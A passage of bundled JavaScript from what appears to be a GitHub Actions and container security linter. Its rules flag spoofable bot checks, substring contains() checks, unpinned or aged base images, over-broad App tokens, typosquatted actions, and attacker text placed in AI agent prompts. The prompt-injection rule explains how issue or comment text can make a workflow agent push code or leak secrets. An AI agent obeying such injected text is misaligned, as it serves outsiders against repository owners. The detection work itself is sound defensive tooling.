    const steps = (doc, list, prefix) => {
      for (const step of list) check3(doc, step.if, `${prefix}step ${step.index + 1}`);
    };
    for (const workflow of model.workflows) {
      for (const job of workflow.jobs) {
        check3(workflow, job.if, `job ${job.id}`);
        steps(workflow, job.steps, `job ${job.id}, `);
      }
    }
    for (const action of model.actions) steps(action, action.runs?.steps ?? [], "");
    return dedupeResults(results);
  }
});

// src/rules/build/condition-support.ts
function rewrite(condition, expression, node, replacement) {
  const offset = expression.valueStart + (expression.bare ? 0 : 3);
  const value = condition.value;
  const rewritten = `${value.slice(0, offset + node.start)}${replacement}${value.slice(offset + node.end)}`.trim();
  return `if: ${/^[!&*{[|>'"%@`]/.test(rewritten) || /: /.test(rewritten) ? JSON.stringify(rewritten) : rewritten}`;
}

// src/rules/build/bot-conditions.ts
var SPOOFABLE = /* @__PURE__ */ new Set(["github.actor", "github.triggering_actor", "github.event.sender.login"]);
var SPOOFABLE_IDS = /* @__PURE__ */ new Set(["github.actor_id", "github.event.sender.id"]);
var PR_EVENTS = [
  "pull_request",
  "pull_request_target",
  "pull_request_review",
  "pull_request_review_comment",
  "workflow_run",
  "issue_comment",
  "check_suite",
  "check_run",
  "merge_group"
];
function isBotLiteral(node) {
  return node.kind === "literal" && typeof node.value === "string" && /\[bot\]$/i.test(node.value);
}
function isBotId(node) {
  if (node.kind !== "literal" || typeof node.value !== "number" && typeof node.value !== "string") return false;
  const text = String(node.value).trim();
  return /^\d+$/.test(text) && BOT_IDS.has(Number(text));
}
function botChecks(node, negated = false, out = []) {
  if (!node) return out;
  switch (node.kind) {
    case "not":
      botChecks(node.operand, !negated, out);
      break;
    case "binary": {
      if (node.op === "==" || node.op === "!=") {
        const positive = node.op === "==" !== negated;
        const [a, b] = [node.left, node.right];
        for (const [side, other] of [
          [a, b],
          [b, a]
        ]) {
          if (positive && side.kind === "context" && SPOOFABLE.has(side.path) && isBotLiteral(other)) out.push(side);
          if (positive && side.kind === "context" && SPOOFABLE_IDS.has(side.path) && isBotId(other)) out.push(side);
        }
      } else {
        botChecks(node.left, negated, out);
        botChecks(node.right, negated, out);
      }
      break;
    }
    case "call": {
      if (!negated && ["contains", "startswith", "endswith"].includes(node.name) && node.args.length === 2) {
        const [haystack, needle] = node.args;
        if (haystack.kind === "context" && SPOOFABLE.has(haystack.path) && needle.kind === "literal" && /bot/i.test(String(needle.value))) out.push(haystack);
      }
      break;
    }
    default:
      break;
  }
  return out;
}
function alsoChecksAuthor(condition) {
  return /pull_request\.user\.(login|id)\s*==|head(?:\.repo|_repository)\.full_name\s*==\s*(?:'[\w.-]+\/[\w.-]+'|github\.repository\b)/i.test(condition.value);
}
var botConditions = defineWorkflowRule({
  meta: {
    id: "bot-conditions",
    area: "build",
    severity: "high",
    title: "Spoofable bot check on github.actor",
    rationale: "`github.actor` is whoever triggered the latest event. When Dependabot (or another bot) updates an attacker's pull request, the actor becomes the bot and a check like `github.actor == 'dependabot[bot]'` lets the attacker's code through, often into an auto-merge.",
    remediation: "Check the pull request's author instead: `github.event.pull_request.user.login == 'dependabot[bot]'`.",
    references: [
      "zizmor: bot-conditions",
      "poutine: confused_deputy_auto_merge",
      "https://docs.github.com/en/code-security/dependabot/troubleshooting-dependabot/troubleshooting-dependabot-on-github-actions"
    ],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const results = [];
    const check3 = (workflow, condition, where, severity) => {
      if (!condition || alsoChecksAuthor(condition)) return;
      for (const expression of conditionExpressions(workflow.file, condition)) {
        for (const node of botChecks(expression.ast)) {
          results.push({
            status: "fail",
            severity,
            message: `${where}: \`${node.path}\` is checked against a bot ${SPOOFABLE_IDS.has(node.path) ? "account id" : "login"}; it names whoever triggered the latest event, so an attacker's pull request touched by the bot passes`,
            location: locate(workflow.file, refSpan(workflow, condition, expression, node)),
            fix: rewrite(
              condition,
              expression,
              node,
              SPOOFABLE_IDS.has(node.path) ? "github.event.pull_request.user.id" : "github.event.pull_request.user.login"
            )
          });
        }
      }
    };
    for (const workflow of model.workflows) {
      const events = eventNames(workflow);
      if (!PR_EVENTS.some((event) => events.has(event))) continue;
      const severity = privilegedUntrustedEvents(workflow, model).length > 0 ? "high" : "medium";
      for (const job of workflow.jobs) {
        check3(workflow, job.if, `job ${job.id}`, severity);
        for (const step of job.steps) check3(workflow, step.if, `job ${job.id}, step ${step.index + 1}`, severity);
      }
    }
    return dedupeResults(results);
  }
});

// src/rules/build/unsound-contains.ts
function fixFor4(literal, needle) {
  const items2 = literal.split(/[\s,;|]+/).filter(Boolean).map((item) => `"${item.replace(/"/g, '\\"')}"`);
  return `contains(fromJSON('[${items2.join(", ")}]'), ${needle})`;
}
function whoChooses(path14) {
  if (path14 === "") return null;
  const capability = capabilityOf(path14);
  if (capability === "arbitrary" || /(^|\.)(head_ref|head_branch|actor|triggering_actor|login)$|\.head\.(ref|label)$/.test(path14)) return "outsiders";
  if (path14.startsWith("github.") && /^github\.(ref|ref_name|base_ref)$|\.(ref|branch)$/.test(path14)) return "writers";
  return null;
}
var unsoundContains = defineWorkflowRule({
  meta: {
    id: "unsound-contains",
    area: "build",
    severity: "high",
    title: "contains() on a string used as a membership check",
    rationale: "`contains('main,release', github.ref_name)` is a substring test: `mai`, `n,rel` or any substring of the list passes. When the value is attacker-chosen (a branch name, an actor login), the check can be bypassed.",
    remediation: 'Use a list: `contains(fromJSON(\'["main", "release"]\'), github.ref_name)`, or compare with `==`.',
    references: ["zizmor: unsound-contains", "https://docs.github.com/en/actions/reference/workflows-and-actions/expressions#contains"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const results = [];
    const check3 = (doc, condition, where) => {
      if (!condition) return;
      for (const expression of conditionExpressions(doc.file, condition)) {
        walkExpression(expression.ast, (node) => {
          if (node.kind !== "call" || node.name !== "contains" || node.args.length !== 2) return;
          const [haystack, needle] = node.args;
          if (haystack.kind !== "literal" || typeof haystack.value !== "string" || needle.kind === "literal") return;
          const path14 = needle.kind === "context" ? needle.path : "";
          const chooser = whoChooses(path14);
          const severity = chooser === "outsiders" ? "high" : "medium";
          const needleText = expression.body.slice(needle.start, needle.end);
          results.push({
            status: "fail",
            severity,
            message: `${where}: contains('${haystack.value}', ${needleText}) tests for a substring, so any part of '${haystack.value}' passes${chooser === "outsiders" ? `, and ${needleText} can be chosen by an attacker` : chooser === "writers" ? `, and anyone who can push a branch or tag chooses ${needleText}` : ""}`,
            location: locate(doc.file, refSpan(doc, condition, expression, node)),
            fix: rewrite(condition, expression, node, fixFor4(haystack.value, needleText))
          });
        });
      }
    };
    const steps = (doc, list, prefix) => {
      for (const step of list) check3(doc, step.if, `${prefix}step ${step.index + 1}`);
    };
    for (const workflow of model.workflows) {
      for (const job of workflow.jobs) {
        check3(workflow, job.if, `job ${job.id}`);
        steps(workflow, job.steps, `job ${job.id}, `);
      }
    }
    for (const action of model.actions) steps(action, action.runs?.steps ?? [], "");
    return dedupeResults(results);
  }
});

// src/rules/build/prompt-injection.ts
var PROMPT_INPUTS = new Map(AI_AGENT_ACTIONS.map((entry2) => [entry2.action, entry2.inputs]));
var promptInjection = defineWorkflowRule({
  meta: {
    id: "prompt-injection",
    area: "build",
    severity: "high",
    title: "Attacker-controlled text expanded into an AI agent prompt",
    rationale: "An AI agent running in a workflow follows the instructions in its prompt with the tools and credentials the job gives it. Text from an issue, a comment or a pull request expanded into the prompt lets its author instruct the agent: change code, push, comment, or leak the secrets it can read.",
    remediation: "Do not expand event text into a prompt: have the agent read it from a file as data, give it only the tools the task needs, run the job with read-only `permissions:` and no secrets but the model key, and treat its output as untrusted.",
    references: [
      "CWE-1427",
      "OWASP LLM01: Prompt Injection",
      "CodeQL: actions/prompt-injection (experimental)",
      "https://docs.github.com/en/actions/concepts/security/script-injections"
    ],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const tracker = trackerFor(model);
    const results = [];
    eachStep(model, (doc, job, step) => {
      const inputs = step.uses ? PROMPT_INPUTS.get(step.uses.name) : void 0;
      if (!inputs) return;
      for (const [name, entry2] of step.with) {
        if (!inputs.includes(name.toLowerCase()) || !entry2.value) continue;
        for (const expression of entry2.value.expressions) {
          const taint = tracker.expressionTaint(expression, { job, step, action: doc.kind === "action" ? doc : null });
          if (!taint || taint.level !== "arbitrary") continue;
          const { grade: grade2, why } = injectionGrade(taint, doc.kind === "workflow" ? doc : null, job, model);
          if (grade2 === "info") continue;
          const gates = job ? gatesFor(job, step) : [];
          const gated = gates.length > 0 ? `; lowered because ${gates.map((gate) => gate.note).join(", ")}` : "";
          const via = taint.via.length > 0 ? ` (via ${taint.via.join(" \u2192 ")})` : "";
          results.push({
            status: "fail",
            severity: applyGates(grade2, gates),
            message: `${stepLabel(step)}: \`\${{ ${expression.body.trim()} }}\` puts attacker-controlled text from ${taint.origin}${via} into the \`${name}\` of ${step.uses.name}, an AI agent that acts on it (${why.replace(/^\((.*)\)$/, "$1")})${gated}`,
            location: expressionLocation(doc, expression),
            fix: `Write the text to a file and tell the agent to read it as data (e.g. \`echo "$ISSUE_BODY" > issue.txt\` with \`ISSUE_BODY: \${{ ${expression.body.trim()} }}\` in env:), restrict the agent's tools, and keep secrets and write scopes out of the job.`
          });
        }
      }
    });
    const openToEveryone = (workflow, job, step) => {
      if (step.uses?.name !== "anthropics/claude-code-action") return;
      const allowed = step.with.get("allowed_non_write_users")?.value;
      if (!allowed || !allowed.value.split(",").some((user) => user.trim() === "*")) return;
      const taint = { level: "arbitrary", origin: "any user's issue, comment or review", via: [] };
      const { grade: grade2, why } = injectionGrade(taint, workflow, job, model);
      if (grade2 === "low" || grade2 === "info") return;
      const gates = gatesFor(job, step);
      const gated = gates.length > 0 ? `; lowered because ${gates.map((gate) => gate.note).join(", ")}` : "";
      results.push({
        status: "fail",
        severity: applyGates(grade2, gates),
        message: `${stepLabel(step)}: allowed_non_write_users: "*" lets anyone who can open an issue or comment instruct ${step.uses.name} (${why.replace(/^\((.*)\)$/, "$1")})${gated}`,
        location: strLocation(workflow, allowed),
        fix: "List the users who may trigger the agent (or leave allowed_non_write_users unset: only users with write access), and keep secrets and write scopes out of the job."
      });
    };
    eachStep(model, (doc, job, step) => {
      if (doc.kind === "workflow" && job) openToEveryone(doc, job, step);
    });
    return dedupeResults(results);
  }
});

// src/rules/build/base-image-policy.ts
var PINNED = /@sha256:[0-9a-f]{64}$/;
var DAY_MS2 = 864e5;
var PLACEHOLDER_BEFORE = Date.UTC(2013, 0, 1);
var SEVERITY_ORDER = ["low", "medium", "high", "critical"];
var DOCKER_HUB_ALIASES = /* @__PURE__ */ new Set(["index.docker.io", "registry-1.docker.io", "registry.hub.docker.com"]);
function registryAllowed(registry, repository, globs) {
  return globs.some((glob) => {
    const [host2, ...rest] = glob.split("/");
    const wantedHost = DOCKER_HUB_ALIASES.has(host2.toLowerCase()) ? "docker.io" : host2.toLowerCase();
    const { Minimatch } = globLibrary();
    if (!new Minimatch(wantedHost, { nocase: true }).match(registry)) return false;
    return rest.length === 0 || new Minimatch(rest.join("/")).match(repository);
  });
}
function what(image) {
  const defaults = image.kind === "compose" ? "the variable defaults and .env" : image.kind === "helm-values" ? "the chart values and appVersion" : "the ARG defaults";
  const written = image.resolved ? `${image.text} (${image.resolved} with ${defaults})` : image.text;
  switch (image.kind) {
    case "dockerfile-from":
      return `FROM ${written} (${image.context})`;
    case "dockerfile-copy":
      return `COPY --from=${written}`;
    case "dockerfile-mount":
      return `${image.context} from=${written}`;
    case "dockerfile-syntax":
      return `# syntax=${written} (the BuildKit frontend)`;
    case "pushed":
      return `pushed image ${written}`;
    case "kustomize":
      return `${image.context}: image ${written}`;
    case "helm-values":
      return `${image.context} (a chart default, not rendered output): ${written}`;
    default:
      return `${image.context} image ${written}`;
  }
}
function digestResult(image) {
  const at = image.location ? { location: image.location } : {};
  if (!image.ref) {
    if (PINNED.test(image.text)) return null;
    return { status: "unknown", message: `${what(image)}: cannot tell whether it is pinned by digest: ${image.unknown}`, ...at };
  }
  if (image.ref.digest) return null;
  const ref = image.ref;
  let severity = "medium";
  let why = `is pinned to the tag :${ref.tag}, which its publisher can move, not to a digest`;
  if (ref.defaultTag) {
    severity = "high";
    why = "has no tag (it means :latest) and no digest";
  } else if (ref.tag === "latest") {
    severity = "high";
    why = "uses the :latest tag and no digest";
  }
  const fixable = image.resolved === void 0 && image.kind !== "pushed" && image.kind !== "kustomize" && image.kind !== "helm-values";
  return { status: "fail", severity, message: `${what(image)} ${why}`, ...at, ...fixable ? { fix: `${image.text}@sha256:<digest>` } : {} };
}
function registryResult(image, allowed) {
  if (allowed.length === 0) return null;
  const at = image.location ? { location: image.location } : {};
  if (!image.ref) return { status: "unknown", message: `${what(image)}: cannot tell its registry: ${image.unknown}`, ...at };
  if (registryAllowed(image.ref.registry, image.ref.repository, allowed)) return null;
  return {
    status: "fail",
    severity: "high",
    message: `${what(image)} comes from ${image.ref.registry}/${image.ref.repository}, which allowed-registries does not list (${allowed.join(", ")})`,
    ...at
  };
}
var baseImagePolicy = defineRule({
  meta: {
    id: "base-image-policy",
    area: "build",
    severity: "high",
    title: "Base image outside the base image policy",
    rationale: "The base image is most of what ships: its packages, its vulnerabilities, its publisher. A `FROM` by tag builds on whatever the registry serves that day; a base image from an unvetted registry is an unreviewed supplier; a base image nobody rebuilt for a year carries a year of unpatched packages.",
    remediation: "Pin `FROM` by digest (`FROM node:22-bookworm@sha256:<digest>`) and let Dependabot (docker ecosystem) or Renovate move it; take base images from the registries the policy lists; rebuild on a fresh base image.",
    references: [
      "SSC-45",
      "OSPS-BR-05.01",
      "Kubernetes supply-chain guide: container base images",
      "Scorecard: Pinned-Dependencies (containerImage)",
      "hadolint DL3006, DL3007"
    ],
    access: {
      token: "none",
      note: "max-age-days reads each judged image\u2019s manifest and config, vulnerabilities its layers too, from its registry (credentials from the Docker config or REGISTRY_USERNAME/REGISTRY_PASSWORD); not with --offline. vulnerabilities also needs an advisory source (--advisories)"
    }
  },
  needs: [dockerfileSourcesFact],
  usesWith: (options) => [
    // Manifests and workflows are read only when the rule judges their images; registries only for the
    // options that need them, and only for the images of the groups judged.
    ...beyondDockerfiles(options.sources ?? []) ? [imageSourcesFact] : [],
    ...options["max-age-days"] !== null && options["max-age-days"] !== void 0 ? [configsFact(options)] : [],
    ...options.vulnerabilities !== void 0 && options.vulnerabilities !== "off" ? [imageScansFactFor(options.sources ?? ["dockerfile"])] : []
  ],
  defaultOptions: { "require-digest": true, "allowed-registries": [], "max-age-days": null, vulnerabilities: "off", sources: ["dockerfile"] },
  strictOptions: { "require-digest": true, "max-age-days": 180 },
  optionsSchema: {
    type: "object",
    properties: {
      "require-digest": { type: "boolean", description: "every image pinned by @sha256: digest (default true; no tag or :latest is high, another tag medium)" },
      "allowed-registries": {
        type: "array",
        items: { type: "string", minLength: 1 },
        description: "registry globs (docker.io, ghcr.io, *.azurecr.io) or registry/repository globs (docker.io/library/*); empty: any registry"
      },
      "max-age-days": {
        type: ["integer", "null"],
        minimum: 1,
        description: "fail when the image config says it was created more than N days ago (reads the registry); null: not checked (strict: 180)"
      },
      vulnerabilities: {
        enum: ["off", "critical", "high", "medium", "low"],
        description: "lowest severity of a vulnerability of a judged image (see sources) that fails (reads the registry and the run's advisory source); off: not checked"
      },
      sources: {
        type: "array",
        items: { enum: [...SOURCE_GROUPS] },
        uniqueItems: true,
        description: "images judged: dockerfile (FROM, COPY --from; the default), kubernetes (manifests, rendered Helm output, kustomize patches and images:), workflow (container, services, docker://, Docker actions), compose, helm-values (unrendered charts), pushed (--image / input image)"
      }
    }
  },
  checkOptions(options) {
    const problems = [];
    for (const glob of options["allowed-registries"] ?? []) {
      if (glob.trim() !== glob || glob.includes("://"))
        problems.push({
          key: "allowed-registries",
          message: `base-image-policy allowed-registries: ${JSON.stringify(glob)} must be a registry host or registry/repository glob, without a scheme or spaces`
        });
    }
    return problems;
  },
  gapsHandled: [imageConfigsFact, baseImageScansFact],
  evaluate(ctx) {
    const options = ctx.options;
    const sources = beyondDockerfiles(options.sources) ? ctx.fact(imageSourcesFact) : ctx.fact(dockerfileSourcesFact);
    if (!sources.known) return [{ status: "unknown", message: sources.reason }];
    const maxAge = options["max-age-days"];
    const images = sources.value.images.filter((image) => options.sources.includes(GROUP_OF[image.kind]));
    const configs = maxAge !== null ? ctx.fact(configsFact(options)) : null;
    const scans = options.vulnerabilities !== "off" ? ctx.fact(imageScansFactFor(options.sources)) : null;
    const results = [];
    for (const problem of sources.value.problems) {
      if (problem.kind && options.sources.includes(GROUP_OF[problem.kind]))
        results.push({ status: "unknown", message: `${problem.path}: ${problem.message}`, ...problem.location ? { location: problem.location } : {} });
    }
    for (const image of images) {
      if (options["require-digest"]) {
        const result = digestResult(image);
        if (result) results.push(result);
      }
      const registry = registryResult(image, options["allowed-registries"]);
      if (registry) results.push(registry);
      if (maxAge !== null && configs) {
        const result = ageResult(image, maxAge, configs, ctx.now);
        if (result) results.push(result);
      }
      if (options.vulnerabilities !== "off") results.push(...vulnerabilityResults(image, options.vulnerabilities, scans));
    }
    return results;
  }
});
function configsFact(options) {
  const groups = options.sources ?? ["dockerfile"];
  return options.vulnerabilities !== void 0 && options.vulnerabilities !== "off" ? imageConfigsFromScansFor(groups) : imageConfigsFactFor(groups);
}
function noun(image) {
  return GROUP_OF[image.kind] === "dockerfile" ? "base image" : "image";
}
function ageResult(image, maxAge, configs, now) {
  const at = image.location ? { location: image.location } : {};
  const notChecked = `${what(image)}: ${noun(image)} age not checked`;
  if (!image.ref) return { status: "unknown", message: `${notChecked}: ${image.unknown}`, ...at };
  if (!configs.known)
    return { status: "unknown", message: `${notChecked}: ${configs.reason}`, ...at, ...configs.permission ? { permission: configs.permission } : {} };
  const { platform, source } = platformFor(image);
  const result = configs.value.results.get(configKey(image.ref, platform));
  if (!result) return { status: "unknown", message: `${notChecked}: its configuration was not read`, ...at };
  if (!result.ok) return { status: "unknown", message: `${notChecked}: ${result.reason}`, ...at };
  const shown = `${familiarName(image.ref)} (${platform}${source === "default" ? `, the default platform${image.platformUnknown ? `: ${image.platformUnknown}` : ""}` : ""}; ${result.digest})`;
  if (result.created === void 0) return { status: "unknown", message: `${notChecked}: the image config of ${shown} has no created date`, ...at };
  const created = Date.parse(result.created);
  if (Number.isNaN(created))
    return { status: "unknown", message: `${notChecked}: the image config of ${shown} has created ${JSON.stringify(result.created)}, not a date`, ...at };
  if (created < PLACEHOLDER_BEFORE)
    return {
      status: "unknown",
      message: `${notChecked}: the image config of ${shown} records no real creation date (created ${result.created}, as reproducible builds write)`,
      ...at
    };
  const days = Math.floor((now.getTime() - created) / DAY_MS2);
  if (days <= maxAge) return null;
  return {
    status: "fail",
    severity: "medium",
    message: `${what(image)}: the ${noun(image)} ${shown} was created ${result.created.slice(0, 10)}, ${days} days ago, more than max-age-days ${maxAge}`,
    ...at
  };
}
function vulnerabilityResults(image, threshold, scans) {
  const at = image.location ? { location: image.location } : {};
  if (!image.ref) return [{ status: "unknown", message: `${what(image)}: vulnerabilities not checked: ${image.unknown}`, ...at }];
  if (!scans.known)
    return [
      {
        status: "unknown",
        message: `${what(image)}: vulnerabilities not checked: ${scans.reason}`,
        ...at,
        ...scans.permission ? { permission: scans.permission } : {}
      }
    ];
  const scan = scans.value.get(configKey(image.ref, platformFor(image).platform));
  if (!scan) return [{ status: "unknown", message: `${what(image)}: vulnerabilities not checked: the image was not read`, ...at }];
  const results = imageUnknowns([{ scan, label: what(image), ...image.location ? { at: image.location } : {} }]);
  if (!scan.ok) return results;
  const lowest = SEVERITY_ORDER.indexOf(threshold);
  let below = 0;
  for (const match2 of scan.report.matches) {
    const severity = match2.advisory.malicious ? "critical" : matchSeverity(match2);
    if (match2.advisory.severity.word !== null && SEVERITY_ORDER.indexOf(severity) < lowest) {
      below += 1;
      continue;
    }
    const kind = match2.advisory.malicious ? "a known malicious package: " : "";
    results.push({
      status: "fail",
      severity,
      message: `${what(image)}: ${imagePackageLabel(match2.package)} is ${kind}vulnerable: ${advisoryLabel(match2)}; ${imageFixState(match2)}`,
      ...imageMatchFields(scan, match2, image.location)
    });
  }
  if (results.length === 0) {
    results.push({
      status: "pass",
      message: `${what(image)} (${scan.platform}${scan.distro ? `, ${scan.distro}` : ""}): no known vulnerability at or above ${threshold} in ${scan.packages} packages checked against ${sourceLabel(scan.report)}${below ? ` (${below} below)` : ""}`,
      ...at,
      details: { image: scan.reference, imageDigest: scan.digest }
    });
  }
  return results;
}

// src/workflow/data/app-token-actions.ts
var APP_TOKEN_ACTIONS = [
  {
    name: "actions/create-github-app-token",
    permissionInputs: ["permission-"],
    source: "https://github.com/actions/create-github-app-token/blob/main/action.yml"
  },
  { name: "tibdex/github-app-token", permissionInputs: ["permissions"], source: "https://github.com/tibdex/github-app-token" },
  {
    name: "peter-murray/workflow-application-token-action",
    permissionInputs: ["permissions"],
    source: "https://github.com/peter-murray/workflow-application-token-action/blob/main/action.yml"
  },
  { name: "getsentry/action-github-app-token", permissionInputs: [], source: "https://github.com/getsentry/action-github-app-token/blob/main/action.yml" }
];

// src/rules/build/github-app-token-scope.ts
var BY_NAME = new Map(APP_TOKEN_ACTIONS.map((action) => [action.name, action]));
var githubAppTokenScope = defineWorkflowRule({
  meta: {
    id: "github-app-token-scope",
    area: "build",
    severity: "medium",
    title: "GitHub App token minted with all of the installation's permissions",
    rationale: "An installation token minted without a list of permissions gets every permission the GitHub App was installed with, usually far more than the step that uses it needs (writing code, workflows, other repositories of the installation). Anything that reads the token in that job (a compromised action, an injected script) can use all of it.",
    remediation: "Name the permissions the job needs (`permission-contents: write` for actions/create-github-app-token; `permissions:` for the others), and the repositories (`repositories:`) when the App is installed on more than this one.",
    references: [
      "zizmor: github-app",
      "https://docs.github.com/en/apps/creating-github-apps/authenticating-with-a-github-app/generating-an-installation-access-token-for-a-github-app"
    ],
    access: { token: "none" }
  },
  defaultOptions: {},
  step(step) {
    const uses = step.uses;
    if (!uses || uses.kind !== "remote" || !uses.owner || !uses.repo || uses.path) return null;
    const action = BY_NAME.get(`${uses.owner}/${uses.repo}`.toLowerCase());
    if (!action) return null;
    const narrowed = [...step.with.keys()].some(
      (name) => action.permissionInputs.some(
        (input2) => input2.endsWith("-") ? name.toLowerCase().startsWith(input2) && name.length > input2.length : name.toLowerCase() === input2
      )
    );
    if (narrowed) return null;
    const doc = stepDoc(step);
    const how = action.permissionInputs.length === 0 ? `${action.name} has no input to narrow the token: use actions/create-github-app-token with permission-* inputs` : action.permissionInputs[0].endsWith("-") ? `no ${action.permissionInputs[0]}* input` : `no ${action.permissionInputs.join(" or ")} input`;
    return {
      status: "fail",
      message: `${stepOwner(step)}, step ${step.index + 1}: ${uses.raw.split("@")[0]} mints a GitHub App token with every permission of the App's installation (${how})`,
      location: nodeLocation(doc, uses.node),
      fix: action.permissionInputs[0] === "permission-" ? "with:\n  permission-contents: read   # one permission-<name> per permission the job needs" : `with:
  permissions: '{"contents": "read"}'   # only what the job needs`
    };
  }
});

// src/workflow/data/popular-actions.ts
var POPULAR_ACTIONS = [
  "actions/checkout",
  "actions/upload-artifact",
  "actions/download-artifact",
  "github/codeql-action",
  "actions/cache",
  "actions/setup-node",
  "actions/github-script",
  "actions/setup-go",
  "actions/setup-python",
  "docker/login-action",
  "codecov/codecov-action",
  "actions/stale",
  "docker/setup-buildx-action",
  "ossf/scorecard-action",
  "zizmorcore/zizmor-action",
  "actions/create-github-app-token",
  "peter-evans/create-pull-request",
  "docker/setup-qemu-action",
  "astral-sh/setup-uv",
  "actions/labeler",
  "golangci/golangci-lint-action",
  "docker/build-push-action",
  "dessant/lock-threads",
  "pnpm/action-setup",
  "actions/dependency-review-action",
  "sigstore/cosign-installer",
  "goreleaser/goreleaser-action",
  "dorny/paths-filter",
  "taiki-e/install-action",
  "pypa/gh-action-pypi-publish",
  "actions/attest-build-provenance",
  "swatinem/rust-cache",
  "softprops/action-gh-release",
  "dtolnay/rust-toolchain",
  "codspeedhq/action",
  "anchore/sbom-action",
  "peter-evans/create-or-update-comment",
  "actions/setup-java",
  "tj-actions/changed-files",
  "ruby/setup-ruby",
  "re-actors/alls-green",
  "peter-evans/find-comment",
  "google-github-actions/auth",
  "golang/govulncheck-action",
  "actions/upload-pages-artifact",
  "actions/publish-immutable-action",
  "actions/deploy-pages",
  "step-security/harden-runner",
  "slsa-framework/slsa-github-generator",
  "peter-evans/repository-dispatch",
  "docker/metadata-action",
  "crate-ci/typos",
  "actions/attest",
  "uraimo/run-on-arch-action",
  "pyo3/maturin-action",
  "cross-platform-actions/action",
  "changesets/action",
  "azure/login",
  "aws-actions/configure-aws-credentials",
  "slackapi/slack-github-action",
  "rust-lang/crates-io-auth-action",
  "msys2/setup-msys2",
  "matteogabriele/agentscan-action",
  "ko-build/setup-ko",
  "helm/kind-action",
  "gradle/actions",
  "github/issue-labeler",
  "fossas/fossa-action",
  "conda-incubator/setup-miniconda",
  "azure/setup-helm",
  "amannn/action-semantic-pull-request",
  "actions/setup-dotnet",
  "actions/add-to-project",
  "vedantmgoyal9/winget-releaser",
  "thehanimo/pr-title-checker",
  "sigstore/community",
  "rustsec/audit-check",
  "pre-commit/action",
  "open-telemetry/shared-workflows",
  "jlumbroso/free-disk-space",
  "homebrew/actions",
  "google-github-actions/setup-gcloud",
  "dependabot/fetch-metadata",
  "denoland/setup-deno",
  "dawidd6/action-download-artifact",
  "cloudflare/wrangler-action",
  "cargo-bins/cargo-binstall",
  "benchmark-action/github-action-benchmark",
  "actions/reusable-workflows",
  "actions/publish-action",
  "actions/configure-pages"
];

// src/rules/build/typosquatted-action.ts
var popular;
function popularActions() {
  popular ??= POPULAR_ACTIONS.map((name) => {
    const [owner, repo] = name.split("/");
    return { name, owner, repo, ownerKey: confusableKey(owner), repoKey: confusableKey(repo) };
  });
  return popular;
}
var POPULAR_NAMES = new Set(POPULAR_ACTIONS);
function confusableKey(name) {
  return name.toLowerCase().replace(/rn/g, "m").replace(/vv/g, "w").replace(/0/g, "o").replace(/[1i]/g, "l").replace(/5/g, "s").replace(/[-_.]/g, "-");
}
function nearDistance(a, b) {
  if (Math.abs(a.length - b.length) > 1) return 2;
  const rows = Array.from({ length: a.length + 1 }, (_, i) => Array.from({ length: b.length + 1 }, (_2, j) => i === 0 ? j : j === 0 ? i : 0));
  for (let i = 1; i <= a.length; i += 1) {
    for (let j = 1; j <= b.length; j += 1) {
      const cost = a[i - 1] === b[j - 1] ? 0 : 1;
      let best = Math.min(rows[i - 1][j] + 1, rows[i][j - 1] + 1, rows[i - 1][j - 1] + cost);
      if (i > 1 && j > 1 && a[i - 1] === b[j - 2] && a[i - 2] === b[j - 1]) best = Math.min(best, rows[i - 2][j - 2] + 1);
      rows[i][j] = best;
    }
  }
  return Math.min(rows[a.length][b.length], 2);
}
function imitated(owner, repo) {
  const lowerOwner = owner.toLowerCase();
  const lowerRepo = repo.toLowerCase();
  if (POPULAR_NAMES.has(`${lowerOwner}/${lowerRepo}`)) return void 0;
  const ownerKey = confusableKey(lowerOwner);
  const repoKey = confusableKey(lowerRepo);
  for (const popular2 of popularActions()) {
    if (popular2.owner === lowerOwner) continue;
    if (popular2.repoKey !== repoKey) continue;
    if (popular2.ownerKey === ownerKey || popular2.owner.length >= 4 && nearDistance(lowerOwner, popular2.owner) === 1) return popular2.name;
  }
  return void 0;
}
function check(uses, where, doc) {
  if (!uses || uses.kind !== "remote" || !uses.owner || !uses.repo) return null;
  const target2 = imitated(uses.owner, uses.repo);
  if (!target2) return null;
  return {
    status: "fail",
    message: `${where}: ${uses.owner}/${uses.repo} looks like the popular action ${target2} under a look-alike owner; that account's code would run with this job's token and secrets`,
    location: nodeLocation(doc, uses.node),
    fix: `uses: ${target2}@<40-hex commit SHA>   # if ${target2} was meant`
  };
}
var typosquattedAction = defineWorkflowRule({
  meta: {
    id: "typosquatted-action",
    area: "build",
    severity: "high",
    title: "Action name imitates a popular action",
    rationale: "Typosquatting accounts register names one keystroke or one look-alike character away from popular actions' owners (`actons/checkout`, `dockerr/login-action`). A workflow that names one runs that account's code with the job's token and secrets; a SHA pin does not help, it pins the impostor.",
    remediation: "Use the intended action (check the owner on the Marketplace or the repository page) and pin it to a commit SHA.",
    references: [
      "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions"
    ],
    access: { token: "none" }
  },
  defaultOptions: {},
  step(step) {
    return check(step.uses, `${stepOwner(step)}, step ${step.index + 1}`, stepDoc(step));
  },
  job(job) {
    return check(job.uses, `job ${job.id}`, job.workflow);
  }
});

// src/workflow/data/setup-tool-versions.ts
var LATEST = ["latest"];
var SETUP_TOOL_ACTIONS = [
  {
    name: "actions/setup-node",
    input: "node-version",
    pinnedBy: ["node-version-file"],
    floating: ["latest", "current", "node", "lts/*"],
    defaultFloats: false,
    source: "https://github.com/actions/setup-node#supported-version-syntax"
  },
  {
    name: "actions/setup-go",
    input: "go-version",
    pinnedBy: ["go-version-file"],
    floating: ["stable", "oldstable"],
    defaultFloats: false,
    source: "https://github.com/actions/setup-go#using-stableoldstable-aliases"
  },
  {
    name: "hashicorp/setup-terraform",
    input: "terraform_version",
    pinnedBy: [],
    floating: LATEST,
    defaultFloats: true,
    source: "https://github.com/hashicorp/setup-terraform#inputs"
  },
  {
    name: "azure/setup-helm",
    input: "version",
    pinnedBy: [],
    floating: LATEST,
    defaultFloats: true,
    source: "https://github.com/Azure/setup-helm/blob/main/action.yml"
  },
  {
    name: "astral-sh/setup-uv",
    input: "version",
    pinnedBy: ["version-file"],
    floating: LATEST,
    defaultFloats: false,
    source: "https://github.com/astral-sh/setup-uv#install-a-specific-version"
  },
